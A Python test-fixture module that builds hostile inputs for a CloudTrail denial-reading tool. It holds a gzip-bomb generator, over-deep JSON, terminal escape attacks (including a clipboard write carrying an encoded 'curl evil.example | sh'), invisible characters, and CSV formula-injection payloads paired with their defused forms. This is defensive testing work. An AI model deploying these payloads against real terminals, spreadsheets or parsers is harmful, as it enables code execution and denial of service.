"""Hostile inputs shared by the unit tests and the reliability suite: gzip bombs,
damaged records, terminal escapes, invisible characters and CSV formula cases."""

from __future__ import annotations

import json
import zlib

from deniedwatch.sources.bounded import MiB
from live_support import denial


def bomb(size: int, unit: bytes = b"\0", *, prefix: bytes = b"", suffix: bytes = b"") -> bytes:
    """gzip of ``prefix + unit * n + suffix`` (``size`` bytes in all), made without ever
    holding or compressing the inflated size: a MiB of units is deflated once, ending
    in a full flush (which resets the compressor, so the block is the same every time),
    and that block is repeated; the gzip header and trailer are written by hand."""
    chunk = unit * (MiB // len(unit))
    count, rest = divmod(size - len(prefix) - len(suffix), len(chunk))
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    head = packer.compress(prefix) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    assert packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH) == block
    tail = packer.compress(chunk[:rest] + suffix) + packer.flush()
    crc = zlib.crc32(prefix)
    for _ in range(count):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(chunk[:rest] + suffix, crc)
    total = len(prefix) + count * len(chunk) + rest + len(suffix)
    trailer = (crc & 0xFFFFFFFF).to_bytes(4, "little") + (total % 2**32).to_bytes(4, "little")
    gzip_header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    return gzip_header + head + block * count + tail + trailer


def records_bomb(size: int) -> bytes:
    """A gzip bomb that is a valid CloudTrail file: the same denial over and over."""
    one = json.dumps(denial(user="bomb")).encode() + b","
    return bomb(size, one, prefix=b'{"Records": [', suffix=b"{}]}")


# Deeper than the JSON parsers of every supported Python read (json and msgspec stop near
# 1,000 levels on 3.11, 1,500 on 3.12, 10,000 on 3.13): a record nested this deep is
# past the parser on any interpreter, so it is read without its deepest field and named.
PAST_EVERY_PARSER = 20_000


def deep_denial(depth: int) -> bytes:
    text = json.dumps(denial(user="mallory", requestParameters={"x": 1}))
    return text.replace('{"x": 1}', '{"a":' * depth + "1" + "}" * depth).encode()


ESC = "\x1b"
# Clear the screen, an OSC 8 hyperlink, an OSC 52 clipboard write, a C1 CSI (U+009B).
TERMINAL_ATTACKS = [
    "\x1b[2J\x1b[H",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "\x9b31m",
    "\x00\x07\x08\x0b\x0c\r\n",
]
INVISIBLE = ["\u034f", "\ufe0f", "\U000e0100", "\u3164", "\u115f", "\u1160", "\uffa0", "\u2800"]


# (cell text from the record, the cell written). An apostrophe makes a spreadsheet
# read the cell as text; controls are shown escaped so no tab, CR or newline is left
# to start a new cell or row in any import.
CSV_CASES: list[tuple[str, str]] = [
    ('=HYPERLINK("http://evil","x")', '\'=HYPERLINK("http://evil","x")'),
    ("+1+2", "'+1+2"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\\t=1"),
    ("\r=1", "'\\r=1"),
    (" =HYPERLINK(1)", "' =HYPERLINK(1)"),
    ("\n=1+2", "'\\n=1+2"),
    ("\x00=cmd|' /C calc'!A0", "'\\x00=cmd|' /C calc'!A0"),
    (";=1+1", "';'=1+1"),  # defused whole, and for a reader that splits on ";"
    (",=1+1", "','=1+1"),
    ('"=1+1', "'\"=1+1"),
    ("\u3000=1", "'\\u3000=1"),
    ("\u200b@x", "'\\u200b@x"),
    ("a\t=1+1", "a\\t=1+1"),  # a tab-separated import would split here: no tab is left
    ("a;=1+1", "a;'=1+1"),  # a semicolon-separated import splits here
    ("a, -1+2", "a, '-1+2"),
    ('a|"@x', "a|\"'@x"),
    # compatibility forms a spreadsheet reads as the ASCII ones (NFKC): full-width, small,
    # superscript; at the start and after a full-width separator
    ('＝HYPERLINK("http://evil","x")', '\'＝HYPERLINK("http://evil","x")'),
    ("＋1+2", "'＋1+2"),
    ("－2+3", "'－2+3"),
    ("＠SUM(A1)", "'＠SUM(A1)"),
    ("﹦1+1", "'﹦1+1"),
    ("⁼1+1", "'⁼1+1"),
    ("\u3000＝1", "'\\u3000＝1"),
    ("a；＝1+1", "a；'＝1+1"),
    ("a，－1+2", "a，'－1+2"),
    ("a, ＝1+2", "a, '＝1+2"),
    ("ＡＷＳ", "ＡＷＳ"),
    ("aws-cli/2.17", "aws-cli/2.17"),
    ("10.0.0.1", "10.0.0.1"),
    ("a=b", "a=b"),
    ("", ""),
]
